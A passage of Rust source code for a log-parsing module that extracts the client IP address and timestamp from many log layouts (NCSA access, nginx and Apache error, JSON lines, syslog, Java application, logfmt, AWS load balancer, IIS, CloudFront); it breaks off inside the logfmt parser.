//! Log line layouts: the requester's address and the time a line was
//! logged, for the layouts we recognise.
//!
//! [`line_context`] looks at one line (without its terminator) and, when it
//! is in a known layout, returns the client address and the instant the line
//! was written:
//!
//! | layout | example | address | time |
//! |---|---|---|---|
//! | [`Layout::Access`] | `203.0.113.9 - - [10/Dec/2021:13:55:36 -0700] "GET / HTTP/1.1" 200 …` (also `vhost:port ip - - […]`, IPv6 clients) | first field (second with a virtual host) | `[…]`, with its offset |
//! | [`Layout::NginxError`] | `2021/12/10 12:00:00 [error] 123#0: *1 …, client: 1.2.3.4, server: …` | `client:` | local time, **taken as UTC** (nginx writes no zone) |
//! | [`Layout::ApacheError`] | `[Fri Dec 10 12:00:00.123456 2021] [core:error] [pid 1] [client 1.2.3.4:5678] …` (2.4; 2.2 without microseconds) | `[client …]` (port dropped) | local time, **taken as UTC** (httpd writes no zone) |
//! | [`Layout::JsonLines`] | `{"@timestamp":"2021-12-10T12:00:00Z","remote_addr":"1.2.3.4",…}` | see below | see below |
//! | [`Layout::Syslog3164`] | `<34>Oct 11 22:14:15 host app[12]: msg` (`<PRI>` optional; rsyslog's RFC 3339 stamp too) | from the message | `year_hint`, **taken as UTC** |
//! | [`Layout::Syslog5424`] | `<34>1 2003-10-11T22:14:15.003Z host app 123 ID47 [sd] msg` | from the message | the header's |
//! | [`Layout::JavaApp`] | `2021-12-26 17:46:40,080 [main] INFO c.e.App - msg` (Logback, Log4j, Spring Boot; `T` and a zone allowed), `10-Dec-2021 10:00:00.123 INFO [main] …` (Tomcat), `17:46:40.080 [main] DEBUG …` (no date) | a client key in the message, see below | the stamp; **no zone is taken as UTC** |
//! | [`Layout::Logfmt`] | `time="2021-12-10T10:00:00Z" level=info client_ip=198.51.100.2 msg="…"` | the JSON reader's client keys, and Heroku's `fwd` | the JSON reader's time keys |
//! | [`Layout::AwsLoadBalancer`] | `https 2021-12-10T10:00:00.123456Z app/lb/50dc… 203.0.113.9:2817 10.0.0.1:80 0.000 …` (ALB; Classic ELB without the type) | the field after the balancer's name (port dropped) | the first field |
//! | [`Layout::Iis`] | `2021-12-10 10:00:00 10.0.0.5 GET /index.html - 443 - 203.0.113.7 Mozilla/5.0+… - 200 0 0 15` (IIS's default fields; IIS 6's `s-sitename` first too) | `c-ip`, the 9th field (10th after a site name) | date and time, UTC (IIS logs in UTC) |
//! | [`Layout::CloudFront`] | `2021-12-10⇥10:00:00⇥LHR62-C2⇥2390⇥203.0.113.10⇥GET⇥…` (standard log, tab-separated) | `c-ip`, the 5th field | date and time, UTC |
//!
//! JSON lines: the address comes from the first of `remote_addr`,
//! `remote_ip`, `client_ip`, `clientip`, `client`, `src_ip`, `source_ip`,
//! `ip`, `x_forwarded_for`/`x-forwarded-for` (its first address),
//! `source.ip`, `client.ip`, `http.client_ip` (nested objects or dotted
//! keys, as ECS writes them) that holds an address; keys compare without
//! case and without `_`/`-`, so `remoteAddr` and `clientIP` count too. The
//! time comes from `@timestamp`, `timestamp`, `time`, `ts`, `datetime`,
//! `date`, `time_iso8601`, `time_local`: RFC 3339 / ISO 8601 strings (no
//! zone means UTC), access-log stamps, or epoch numbers (seconds,
//! milliseconds, microseconds or nanoseconds, told apart by magnitude). A
//! `log`, `message` or `msg` string that is itself an access, error or Java
//! application log line (Docker's json-file driver) gives what the fields do
//! not.
//!
//! Syslog messages that are themselves access, error, JSON or logfmt lines
//! (nginx and httpd logging through syslog, Heroku's router) give that inner
//! line's address, and its time when it has one (it carries a year and a
//! zone). Other messages give the address of sshd's `… from ADDR port N`,
//! PAM's `rhost=ADDR` or a netfilter `SRC=ADDR`.
//!
//! Java application logs: a line is one when a level (`TRACE`, `DEBUG`,
//! `INFO`, `WARN`, `WARNING`, `ERROR`, `FATAL`, and java.util.logging's
//! `SEVERE`, `CONFIG`, `FINE`, `FINER`, `FINEST`; bare or in brackets)
//! follows the stamp, possibly after a `[thread]`. The address comes only
//! from a client key of the JSON reader's written into the message as
//! `key=value`, `key: value` or `"key":"value"` (`remote_addr=192.0.2.1`,
//! `{clientIp=192.0.2.1, user=x}` as an MDC prints, `X-Forwarded-For:
//! 192.0.2.1, 10.0.0.1`); the key must start the message or follow a blank,
//! a quote or one of `,;([{|` (a query string's `?ip=` does not count), the
//! best ranked key wins as in JSON, and a bare address is never taken. The
//! message is free text, so an address found there is only as good as what
//! the application wrote next to it.
//!
//! Order: a line that starts with `key=` (which no other layout does) is
//! tried as logfmt first; then the JSON and web server layouts, as before
//! the others were added; then the Java, load balancer, IIS and CloudFront
//! layouts, chosen by their first bytes so that a line pays for one or two
//! of them at most; then syslog, whose ISO-dated form would otherwise take
//! Java and Classic ELB lines.
//!
//! Parsing never fails and never panics: an unknown or mangled line gives
//! an empty or partial context. Header fields are looked for in the first
//! [`HEADER_SCAN`] bytes; the searches that go further (messages, logfmt
//! pairs, IIS fields past a long URI) are single linear passes, so hostile
//! lines of any size cost time linear in their length.
//! A caller may pass a bounded prefix of a huge line and gets whatever that
//! prefix shows (a truncated JSON object keeps the fields it got through).

use std::fmt;
use std::net::IpAddr;

use jiff::Timestamp;
use jiff::civil::DateTime;
use jiff::tz::Offset;
use memchr::memmem;
use serde::de::{self, DeserializeSeed, IgnoredAny, MapAccess, SeqAccess, Visitor};

/// How far into a line the header fields (time, host, client) are looked
/// for.
pub const HEADER_SCAN: usize = 1024;

/// What a log line says about who and when.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct LineContext {
    pub source_ip: Option<IpAddr>,
    pub timestamp: Option<Timestamp>,
    pub layout: Option<Layout>,
}

/// The layouts [`line_context`] recognises.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Layout {
    /// NCSA common / combined access log (Apache, nginx default).
    Access,
    /// nginx error log.
    NginxError,
    /// Apache httpd error log.
    ApacheError,
    /// One JSON object per line.
    JsonLines,
    /// Syslog, RFC 3164.
    Syslog3164,
    /// Syslog, RFC 5424.
    Syslog5424,
    /// A Java application log: Logback, Log4j, Spring Boot, Tomcat's
    /// `catalina.out`.
    JavaApp,
    /// logfmt: `key=value` pairs (Go, Heroku).
    Logfmt,
    /// AWS Application or Classic Load Balancer access log.
    AwsLoadBalancer,
    /// IIS W3C extended log with IIS's default fields.
    Iis,
    /// Amazon CloudFront standard log.
    CloudFront,
}

/// The context of one log line (without its line terminator). Never fails:
/// an unknown layout gives an empty context. `year_hint` is used for layouts
/// whose timestamps carry no year (RFC 3164).
pub fn line_context(line: &[u8], year_hint: i16) -> LineContext {
    let line = trim_line(line);
    match line.first() {
        Some(b'<') => syslog(line, year_hint),
        Some(_) => {
            if let Some(ctx) = direct_or_logfmt(line) {
                return ctx;
            }
            // Before syslog: its ISO-dated form would take Java and Classic
            // ELB lines.
            if let Some(ctx) = service(line) {
                return ctx;
            }
            if starts_with_month(line) || starts_with_iso_datetime(line) {
                return syslog(line, year_hint);
            }
            LineContext::default()
        }
        None => LineContext::default(),
    }
}

/// The line without its terminator and leading blanks.
fn trim_line(mut line: &[u8]) -> &[u8] {
    while let [rest @ .., b'\n' | b'\r'] = line {
        line = rest;
    }
    let start = line
        .iter()
        .take(HEADER_SCAN)
        .take_while(|b| matches!(b, b' ' | b'\t'))
        .count();
    &line[start..]
}

/// The layouts that can also appear inside a syslog message: JSON, the
/// error logs and the access log. `None` when none matches.
fn direct(line: &[u8]) -> Option<LineContext> {
    match line.first()? {
        b'{' => json(line),
        _ => web_server(line),
    }
}

/// [`direct`], or logfmt, tried first when the line starts with `key=`
/// (which no other layout does): an access line in a logfmt `msg` would
/// otherwise be taken for the line itself.
fn direct_or_logfmt(line: &[u8]) -> Option<LineContext> {
    if logfmt_start(line) {
        if let Some(ctx) = logfmt(line) {
            return Some(ctx);
        }
    }
    direct(line)
}

/// The error logs and the access log.
fn web_server(line: &[u8]) -> Option<LineContext> {
    match line.first()? {
        b'[' => apache_error(line).or_else(|| access(line)),
        b'0'..=b'9' => nginx_error(line).or_else(|| access(line)),
        _ => access(line),
    }
}

fn ctx(layout: Layout, source_ip: Option<IpAddr>, timestamp: Option<Timestamp>) -> LineContext {
    LineContext {
        source_ip,
        timestamp,
        layout: Some(layout),
    }
}

// ---------------------------------------------------------------------------
// Small scanning helpers.

/// A read position in a byte slice.
struct Cur<'a> {
    b: &'a [u8],
    i: usize,
}

impl<'a> Cur<'a> {
    fn new(b: &'a [u8]) -> Cur<'a> {
        Cur { b, i: 0 }
    }

    fn peek(&self) -> Option<u8> {
        self.b.get(self.i).copied()
    }

    fn eat(&mut self, c: u8) -> Option<()> {
        (self.peek()? == c).then(|| self.i += 1)
    }

    fn eat_if(&mut self, c: u8) -> bool {
        self.eat(c).is_some()
    }

    fn eat_str(&mut self, s: &[u8]) -> Option<()> {
        self.b
            .get(self.i..)?
            .starts_with(s)
            .then(|| self.i += s.len())
    }

    /// Between `min` and `max` (≤ 9) decimal digits.
    fn digits(&mut self, min: usize, max: usize) -> Option<u32> {
        let mut n = 0u32;
        let mut k = 0;
        while k < max {
            match self.peek() {
                Some(c @ b'0'..=b'9') => {
                    n = n * 10 + u32::from(c - b'0');
                    self.i += 1;
                    k += 1;
                }
                _ => break,
            }
        }
        (k >= min).then_some(n)
    }

    /// A fraction of a second after its separator: nanoseconds (digits past
    /// the ninth are skipped).
    fn fraction(&mut self) -> Option<i32> {
        let start = self.i;
        let mut ns = 0i32;
        let mut k = 0;
        while let Some(c @ b'0'..=b'9') = self.peek() {
            if k < 9 {
                ns = ns * 10 + i32::from(c - b'0');
            }
            k += 1;
            self.i += 1;
        }
        if self.i == start {
            return None;
        }
        for _ in k..9 {
            ns *= 10;
        }
        Some(ns)
    }

    /// Bytes up to (not including) the next `stop`, at most `limit` of them.
    fn until(&mut self, stop: u8, limit: usize) -> Option<&'a [u8]> {
        let rest = self.b.get(self.i..)?;
        let window = &rest[..rest.len().min(limit)];
        let n = memchr::memchr(stop, window)?;
        self.i += n;
        Some(&window[..n])
    }

    fn rest(&self) -> &'a [u8] {
        self.b.get(self.i..).unwrap_or_default()
    }
}

fn month(name: &[u8]) -> Option<i8> {
    const MONTHS: [&[u8; 3]; 12] = [
        b"jan", b"feb", b"mar", b"apr", b"may", b"jun", b"jul", b"aug", b"sep", b"oct", b"nov",
        b"dec",
    ];
    let name = name.get(..3)?;
    MONTHS
        .iter()
        .position(|m| m.eq_ignore_ascii_case(name))
        .and_then(|i| i8::try_from(i + 1).ok())
}

fn weekday(name: &[u8]) -> bool {
    const DAYS: [&[u8; 3]; 7] = [b"mon", b"tue", b"wed", b"thu", b"fri", b"sat", b"sun"];
    name.get(..3)
        .is_some_and(|n| DAYS.iter().any(|d| d.eq_ignore_ascii_case(n)))
}

fn starts_with_month(line: &[u8]) -> bool {
    line.len() > 4 && month(line).is_some() && line[3] == b' '
}

fn starts_with_iso_datetime(line: &[u8]) -> bool {
    line.len() > 11
        && line[..4].iter().all(u8::is_ascii_digit)
        && line[4] == b'-'
        && matches!(line[10], b'T' | b't')
}

/// A civil time at a UTC offset (seconds east), as an instant. A leap second
/// (`:60`) is read as `:59`, as jiff's own parser does.
fn instant(
    (y, mo, d): (u32, u32, u32),
    (h, mi, s, ns): (u32, u32, u32, i32),
    offset: i32,
) -> Option<Timestamp> {
    let dt = DateTime::new(
        i16::try_from(y).ok()?,
        i8::try_from(mo).ok()?,
        i8::try_from(d).ok()?,
        i8::try_from(h).ok()?,
        i8::try_from(mi).ok()?,
        i8::try_from(s.min(59)).ok()?,
        ns,
    )
    .ok()?;
    Offset::from_seconds(offset).ok()?.to_timestamp(dt).ok()
}

/// `HH:MM:SS` with an optional `.fraction`, as (h, m, s, ns).
fn clock(c: &mut Cur<'_>, frac_sep: &[u8]) -> Option<(u32, u32, u32, i32)> {
    let h = c.digits(1, 2)?;
    c.eat(b':')?;
    let mi = c.digits(2, 2)?;
    c.eat(b':')?;
    let s = c.digits(2, 2)?;
    let mut ns = 0;
    if let Some(sep) = c.peek() {
        if frac_sep.contains(&sep) && c.b.get(c.i + 1).is_some_and(u8::is_ascii_digit) {
            c.i += 1;
            ns = c.fraction()?;
        }
    }
    Some((h, mi, s, ns))
}

/// A numeric UTC offset: `Z`, `±HH`, `±HHMM`, `±HH:MM`. `None` when there
/// is none here (the cursor does not move).
fn zone(c: &mut Cur<'_>) -> Option<i32> {
    match c.peek()? {
        b'Z' | b'z' => {
            c.i += 1;
            Some(0)
        }
        sign @ (b'+' | b'-') => {
            let save = c.i;
            c.i += 1;
            let parsed = (|| {
                let h = c.digits(2, 2)?;
                let colon = c.eat_if(b':');
                let m = match c.digits(2, 2) {
                    Some(m) => m,
                    None if colon => return None,
                    None => 0,
                };
                let secs = i32::try_from(h * 3600 + m * 60).ok()?;
                Some(if sign == b'-' { -secs } else { secs })
            })();
            if parsed.is_none() {
                c.i = save;
            }
            parsed
        }
        _ => None,
    }
}

/// RFC 3339 / ISO 8601 date-time: `YYYY-MM-DD[T ]HH:MM[:SS[.,frac]][zone]`;
/// no zone means UTC. With `date_only`, a bare `YYYY-MM-DD` is midnight
/// UTC. The cursor ends after what was read.
fn iso8601(c: &mut Cur<'_>, date_only: bool) -> Option<Timestamp> {
    let y = c.digits(4, 4)?;
    c.eat(b'-')?;
    let mo = c.digits(2, 2)?;
    c.eat(b'-')?;
    let d = c.digits(2, 2)?;
    let (h, mi, s, ns) = match c.peek() {
        Some(b'T' | b't' | b' ') if c.b.get(c.i + 1).is_some_and(u8::is_ascii_digit) => {
            c.i += 1;
            let h = c.digits(2, 2)?;
            c.eat(b':')?;
            let mi = c.digits(2, 2)?;
            let (mut s, mut ns) = (0, 0);
            if c.eat_if(b':') {
                s = c.digits(2, 2)?;
                if matches!(c.peek(), Some(b'.' | b',')) {
                    c.i += 1;
                    ns = c.fraction()?;
                }
            }
            (h, mi, s, ns)
        }
        _ if date_only => (0, 0, 0, 0),
        _ => return None,
    };
    let offset = zone(c).unwrap_or(0);
    instant((y, mo, d), (h, mi, s, ns), offset)
}

/// The NCSA stamp inside the brackets: `10/Dec/2021:13:55:36 -0700`.
fn ncsa_time(c: &mut Cur<'_>) -> Option<Timestamp> {
    let d = c.digits(1, 2)?;
    c.eat(b'/')?;
    let mo = month(c.rest())?;
    c.i += 3;
    c.eat(b'/')?;
    let y = c.digits(4, 4)?;
    c.eat(b':')?;
    let (h, mi, s, ns) = clock(c, b".")?;
    let offset = if c.eat_if(b' ') { zone(c)? } else { 0 };
    instant((y, u32::try_from(mo).ok()?, d), (h, mi, s, ns), offset)
}

/// Epoch seconds, milliseconds, microseconds or nanoseconds, told apart by
/// magnitude (seconds up to year 5138, then each unit in turn). A fraction
/// is rounded to the microsecond: an `f64` holds no more near today's
/// epoch (`1639137601.25` is 01.25, not 01.249999872).
fn epoch(v: f64) -> Option<Timestamp> {
    if !v.is_finite() {
        return None;
    }
    let a = v.abs();
    let unit_ns: i64 = if a < 1e11 {
        1_000_000_000
    } else if a < 1e14 {
        1_000_000
    } else if a < 1e17 {
        1_000
    } else {
        1
    };
    let whole = v.trunc();
    if whole.abs() > 1e19 {
        return None;
    }
    // Both casts are in range: |whole| <= 1e19, |fraction| < 1e6.
    #[allow(clippy::cast_possible_truncation)]
    let (whole, micros) = (
        whole as i128,
        ((v - whole) * (unit_ns as f64) / 1000.0).round() as i128,
    );
    Timestamp::from_nanosecond(
        whole
            .checked_mul(i128::from(unit_ns))?
            .checked_add(micros * 1000)?,
    )
    .ok()
}

fn epoch_int(v: i128) -> Option<Timestamp> {
    let a = v.unsigned_abs();
    let ns = if a < 100_000_000_000 {
        v * 1_000_000_000
    } else if a < 100_000_000_000_000 {
        v * 1_000_000
    } else if a < 100_000_000_000_000_000 {
        v * 1_000
    } else {
        v
    };
    Timestamp::from_nanosecond(ns).ok()
}

/// A timestamp written as text in a JSON field.
fn text_time(s: &[u8]) -> Option<Timestamp> {
    let s = s.trim_ascii();
    let first = *s.first()?;
    if first.is_ascii_digit() || first == b'-' {
        if s.len() >= 10 && s[4] == b'-' {
            return iso8601(&mut Cur::new(s), true);
        }
        if s.len() > 3 && s[2] == b'/' || s.get(1) == Some(&b'/') {
            return ncsa_time(&mut Cur::new(s));
        }
        if s.len() <= 40
            && s.iter()
                .all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'-'))
        {
            let text = std::str::from_utf8(s).ok()?;
            return match text.parse::<i128>() {
                Ok(n) => epoch_int(n),
                Err(_) => epoch(text.parse::<f64>().ok()?),
            };
        }
    }
    None
}

// ---------------------------------------------------------------------------
// Addresses.

/// An address written alone: `1.2.3.4`, `2001:db8::1`, `[2001:db8::1]`,
/// `[2001:db8::1]:443`, `1.2.3.4:5678`, `fe80::1%eth0`; IPv4-mapped IPv6
/// addresses come back as IPv4.
fn parse_ip(s: &[u8]) -> Option<IpAddr> {
    let s = s.trim_ascii();
    if s.is_empty() || s.len() > 64 {
        return None;
    }
    let text = std::str::from_utf8(s).ok()?;
    if let Ok(ip) = text.parse::<IpAddr>() {
        return Some(ip.to_canonical());
    }
    if let Some(inner) = text.strip_prefix('[') {
        let (addr, after) = inner.split_once(']')?;
        if !(after.is_empty() || after.strip_prefix(':').is_some_and(is_port)) {
            return None;
        }
        return parse_ip(addr.as_bytes());
    }
    if let Some((addr, _zone)) = text.split_once('%') {
        return addr.parse::<IpAddr>().ok().map(|ip| ip.to_canonical());
    }
    // IPv4 with a port.
    let (addr, port) = text.rsplit_once(':')?;
    if addr.contains(':') || !is_port(port) {
        return None;
    }
    addr.parse::<std::net::Ipv4Addr>().ok().map(IpAddr::V4)
}

/// An address followed by `:port` without brackets, as httpd 2.4 writes
/// `[client 2001:db8::1:5678]`; an address without a port is taken too.
fn parse_ip_port(s: &[u8]) -> Option<IpAddr> {
    let text = std::str::from_utf8(s).ok()?;
    if let Some((addr, port)) = text.rsplit_once(':') {
        if is_port(port) {
            if let Some(ip) = parse_ip(addr.as_bytes()) {
                return Some(ip);
            }
        }
    }
    parse_ip(s)
}

fn is_port(s: &str) -> bool {
    !s.is_empty() && s.len() <= 5 && s.bytes().all(|b| b.is_ascii_digit())
}

/// The address starting at `s`, up to the first byte that cannot be part
/// of one.
fn ip_prefix(s: &[u8]) -> Option<IpAddr> {
    let n = s
        .iter()
        .take(64)
        .take_while(|b| b.is_ascii_hexdigit() || matches!(b, b'.' | b':' | b'[' | b']' | b'%'))
        .count();
    let mut tok = &s[..n];
    // A trailing `:` or `.` ends the sentence, not the address.
    while let [rest @ .., b':' | b'.'] = tok {
        tok = rest;
    }
    parse_ip(tok)
}

// ---------------------------------------------------------------------------
// Access log.

/// `[vhost[:port] ]host ident user [stamp] "request" …`.
fn access(line: &[u8]) -> Option<LineContext> {
    let head = &line[..line.len().min(HEADER_SCAN)];
    let mut tokens: [&[u8]; 4] = [b""; 4];
    let mut n = 0;
    let mut c = Cur::new(head);
    loop {
        if c.peek()? == b'[' {
            break;
        }
        if n == tokens.len() {
            return None;
        }
        tokens[n] = c.until(b' ', HEADER_SCAN)?;
        if tokens[n].is_empty() {
            return None;
        }
        n += 1;
        c.eat(b' ')?;
    }
    let host = match n {
        3 => tokens[0],
        4 => tokens[1],
        _ => return None,
    };
    c.eat(b'[')?;
    let ts = ncsa_time(&mut c)?;
    c.eat(b']')?;
    Some(ctx(Layout::Access, parse_ip(host), Some(ts)))
}

// ---------------------------------------------------------------------------
// nginx error log.

/// `YYYY/MM/DD HH:MM:SS [level] pid#tid: …, client: ADDR, server: …`.
/// The time is nginx's local time without a zone: taken as UTC.
fn nginx_error(line: &[u8]) -> Option<LineContext> {
    let mut c = Cur::new(line);
    let y = c.digits(4, 4)?;
    c.eat(b'/')?;
    let mo = c.digits(2, 2)?;
    c.eat(b'/')?;
    let d = c.digits(2, 2)?;
    c.eat(b' ')?;
    let (h, mi, s, ns) = clock(&mut c, b"")?;
    c.eat_str(b" [")?;
    let ts = instant((y, mo, d), (h, mi, s, ns), 0);
    Some(ctx(Layout::NginxError, nginx_client(c.rest()), ts))
}

/// The `client:` nginx appends. The message before it and the request after
/// it may hold text an attacker chose, so the first occurrence that is
/// followed by nginx's own `, server:` wins, else the first address.
fn nginx_client(rest: &[u8]) -> Option<IpAddr> {
    const KEY: &[u8] = b", client: ";
    let mut first = None;
    for at in memmem::find_iter(rest, KEY) {
        let value = &rest[at + KEY.len()..];
        let end = value
            .iter()
            .take(80)
            .position(|&b| b == b',')
            .unwrap_or(value.len().min(80));
        let Some(ip) = parse_ip(&value[..end]) else {
            continue;
        };
        if value[end..].starts_with(b", server: ") {
            return Some(ip);
        }
        first.get_or_insert(ip);
    }
    first
}

// ---------------------------------------------------------------------------
// Apache httpd error log.

/// `[Www Mmm dd HH:MM:SS[.ffffff] YYYY] [module:level] [pid N:tid M]
/// [client ADDR:PORT] …` (2.4) or `[…] [level] [client ADDR] …` (2.2). The
/// time is httpd's local time without a zone: taken as UTC. Only the
/// leading bracketed fields are read, never the message.
fn apache_error(line: &[u8]) -> Option<LineContext> {
    let mut c = Cur::new(line);
    c.eat(b'[')?;
    if !weekday(c.rest()) {
        return None;
    }
    c.i += 3;
    c.eat(b' ')?;
    let mo = month(c.rest())?;
    c.i += 3;
    c.eat(b' ')?;
    c.eat_if(b' ');
    let d = c.digits(1, 2)?;
    c.eat(b' ')?;
    let (h, mi, s, ns) = clock(&mut c, b".")?;
    c.eat(b' ')?;
    let y = c.digits(4, 4)?;
    c.eat(b']')?;
    let ts = instant((y, u32::try_from(mo).ok()?, d), (h, mi, s, ns), 0);
    let mut ip = None;
    for _ in 0..6 {
        if c.eat_str(b" [").is_none() {
            break;
        }
        let Some(field) = c.until(b']', 160) else {
            break;
        };
        c.i += 1;
        if let Some(addr) = field.strip_prefix(b"client ") {
            ip = parse_ip_port(addr);
            break;
        }
    }
    Some(ctx(Layout::ApacheError, ip, ts))
}

// ---------------------------------------------------------------------------
// Application and service logs: Java, logfmt, AWS load balancers, IIS,
// CloudFront.

/// The layouts tried after the web server, JSON and logfmt ones, chosen by
/// the first bytes: a date (`YYYY-MM-DD` then a tab, a blank or `T`),
/// Tomcat's `DD-Mon-YYYY`, a bare clock, or an ALB request type.
fn service(line: &[u8]) -> Option<LineContext> {
    let head = &line[..line.len().min(HEADER_SCAN)];
    match *head.first()? {
        b'0'..=b'9' => {
            if head.len() > 10 && head[4] == b'-' && head[7] == b'-' {
                match head[10] {
                    b'\t' => cloudfront(head),
                    b' ' => iis(line).or_else(|| java(line)),
                    b'T' | b't' => java(line).or_else(|| load_balancer(head)),
                    _ => None,
                }
            } else if head.get(2) == Some(&b'-') {
                tomcat(line)
            } else if head.get(2) == Some(&b':') {
                java_clock(line)
            } else {
                None
            }
        }
        b'a'..=b'z' | b'A'..=b'Z' | b'@' | b'_' => alb(head),
        _ => None,
    }
}

/// `YYYY-MM-DD`.
fn date(c: &mut Cur<'_>) -> Option<(u32, u32, u32)> {
    let y = c.digits(4, 4)?;
    c.eat(b'-')?;
    let mo = c.digits(2, 2)?;
    c.eat(b'-')?;
    let d = c.digits(2, 2)?;
    Some((y, mo, d))
}

/// A request method as IIS and CloudFront log it: `GET`, `PROPFIND`,
/// `VERSION-CONTROL`.
fn is_method(s: &[u8]) -> bool {
    (1..=24).contains(&s.len())
        && s.iter()
            .all(|b| b.is_ascii_uppercase() || matches!(b, b'-' | b'_'))
}

/// The first `N` fields of `s` split at `sep` (empty where there are fewer).
/// Lazy: reads no further than the `N`th separator.
fn fields<const N: usize>(s: &[u8], sep: u8) -> [&[u8]; N] {
    let mut out: [&[u8]; N] = [b""; N];
    for (slot, field) in out.iter_mut().zip(s.split(|&b| b == sep)) {
        *slot = field;
    }
    out
}

// Java application logs.

/// The levels Log4j, Logback and java.util.logging write.
const LEVELS: [&[u8]; 12] = [
    b"TRACE", b"DEBUG", b"INFO", b"WARN", b"WARNING", b"ERROR", b"FATAL", b"SEVERE", b"CONFIG",
    b"FINE", b"FINER", b"FINEST",
];

/// `YYYY-MM-DD[ T]HH:MM:SS[.,]fff[zone] …LEVEL …` (Logback's and Log4j's
/// `%d`, `%d{ISO8601}`, Spring Boot). No zone means UTC.
fn java(line: &[u8]) -> Option<LineContext> {
    let mut c = Cur::new(line);
    let ts = iso8601(&mut c, false)?;
    java_rest(c, Some(ts))
}

/// Tomcat's `catalina.out`: `10-Dec-2021 10:00:00.123 INFO [main] …`, local
/// time without a zone: taken as UTC.
fn tomcat(line: &[u8]) -> Option<LineContext> {
    let mut c = Cur::new(line);
    let d = c.digits(1, 2)?;
    c.eat(b'-')?;
    let mo = month(c.rest())?;
    c.i += 3;
    c.eat(b'-')?;
    let y = c.digits(4, 4)?;
    c.eat(b' ')?;
    let t = clock(&mut c, b".,")?;
    let ts = instant((y, u32::try_from(mo).ok()?, d), t, 0);
    java_rest(c, ts)
}

/// `HH:MM:SS.fff [thread] LEVEL …` (Logback's default pattern): no date, so
/// no time.
fn java_clock(line: &[u8]) -> Option<LineContext> {
    let mut c = Cur::new(line);
    clock(&mut c, b".,")?;
    java_rest(c, None)
}

/// After the stamp: blanks, an optional `[thread]`, blanks, the level, the
/// message.
fn java_rest(mut c: Cur<'_>, ts: Option<Timestamp>) -> Option<LineContext> {
    blanks(&mut c)?;
    if !level(&mut c) {
        c.eat(b'[')?;
        c.until(b']', 256)?;
        c.i += 1;
        blanks(&mut c)?;
        if !level(&mut c) {
            return None;
        }
    }
    Some(ctx(Layout::JavaApp, kv_ip(c.rest()), ts))
}

/// One to 16 blanks (Spring Boot pads the level on the left).
fn blanks(c: &mut Cur<'_>) -> Option<()> {
    let n = c
        .rest()
        .iter()
        .take(16)
        .take_while(|b| matches!(b, b' ' | b'\t'))
        .count();
    c.i += n;
    (n > 0).then_some(())
}

/// A level, bare or in brackets, followed by a blank, `:` or the end. The
/// cursor moves past it only when there is one.
fn level(c: &mut Cur<'_>) -> bool {
    let save = c.i;
    let bracket = c.eat_if(b'[');
    let rest = c.rest();
    let n = rest
        .iter()
        .take(8)
        .take_while(|b| b.is_ascii_uppercase())
        .count();
    let ok = LEVELS.contains(&&rest[..n])
        && {
            c.i += n;
            !bracket || c.eat_if(b']')
        }
        && matches!(c.peek(), None | Some(b' ' | b'\t' | b':'));
    if !ok {
        c.i = save;
    }
    ok
}

fn is_key_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'@')
}

/// The client address an application wrote into free text as `key=value`,
/// `key: value` or `"key":"value"`, for the JSON reader's client keys
/// (ranked as there; the first of equal rank wins). One pass over the
/// text; each `=` or `:` costs a bounded look either side.
fn kv_ip(msg: &[u8]) -> Option<IpAddr> {
    let mut best: Option<(u8, IpAddr)> = None;
    for at in memchr::memchr2_iter(b'=', b':', msg) {
        let Some(rank) = kv_key(&msg[..at]) else {
            continue;
        };
        if best.is_some_and(|(r, _)| r <= rank) {
            continue;
        }
        if let Some(ip) = kv_value(&msg[at + 1..]) {
            best = Some((rank, ip));
        }
    }
    best.map(|(_, ip)| ip)
}

/// The rank of the client key that ends `before` (the text up to a `=` or
/// `:`), when there is one that starts the text or follows a blank, a quote
/// or one of `,;([{|`. A quoted key needs its opening quote.
fn kv_key(before: &[u8]) -> Option<u8> {
    let (end, quote) = match before.last() {
        Some(&q @ (b'"' | b'\'')) => (before.len() - 1, Some(q)),
        _ => (before.len(), None),
    };
    let n = before[..end]
        .iter()
        .rev()
        .take(33)
        .take_while(|&&b| is_key_byte(b))
        .count();
    if n == 0 || n > 32 {
        return None;
    }
    let mut start = end - n;
    if let Some(q) = quote {
        start = start.checked_sub(1)?;
        if before[start] != q {
            return None;
        }
    }
    let delimited = start.checked_sub(1).is_none_or(|i| {
        matches!(
            before[i],
            b' ' | b'\t' | b',' | b';' | b'(' | b'[' | b'{' | b'|' | b'"' | b'\''
        )
    });
    if !delimited {
        return None;
    }
    let start = if quote.is_some() { start + 1 } else { start };
    let key = std::str::from_utf8(&before[start..end]).ok()?;
    match role(Scope::Top, key) {
        Role::Ip(r) | Role::IpOrObject(r, _) | Role::Forwarded(r) => Some(r),
        _ => None,
    }
}

/// The address that starts a value: after an optional blank and quote, a
/// bare or bracketed address with an optional port, ending where an address
/// can (a list's `,`, a blank, a quote…). `10.0.0.0/8` or `1.2.3.4x` are not
/// addresses.
fn kv_value(v: &[u8]) -> Option<IpAddr> {
    let v = v.strip_prefix(b" ").unwrap_or(v);
    let v = v
        .strip_prefix(b"\"")
        .or_else(|| v.strip_prefix(b"'"))
        .unwrap_or(v);
    let n = if v.first() == Some(&b'[') {
        let close = v.iter().take(48).position(|&b| b == b']')?;
        close
            + 1
            + v[close + 1..]
                .iter()
                .take(6)
                .take_while(|b| b.is_ascii_digit() || **b == b':')
                .count()
    } else {
        v.iter()
            .take(64)
            .take_while(|b| b.is_ascii_hexdigit() || matches!(b, b'.' | b':'))
            .count()
    };
    if v.get(n)
        .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'_' | b'%' | b'-'))
    {
        return None;
    }
    let mut tok = &v[..n];
    while let [rest @ .., b':' | b'.'] = tok {
        tok = rest;
    }
    parse_ip(tok)
}

// logfmt.

/// `key=value key="quoted \"value\"" flag …` (Go's logfmt, logrus, go-kit,
/// Heroku). The line must start with an identifier and `=`, and hold at
/// least two pairs, one of them with a key we know (a time or client key,
/// `msg`, `level`, `lvl`, `severity`, Heroku's `at`). One pass, to the end
/// of the line or the first byte that breaks the syntax; an unterminated
/// quoted value (a truncated line) is dropped.
fn logfmt(line: &[u8]) -> Option<LineContext> {
    if !logfmt_start(line) {
        return None;
    }
    let mut found = Found::default();
    let (mut pairs, mut known) = (0usize, false);
    let mut c = Cur::new(line);
    loop {
        while matches!(c.peek(), Some(b' ' | b'\t')) {
            c.i += 1;
        }
        let start = c.i;
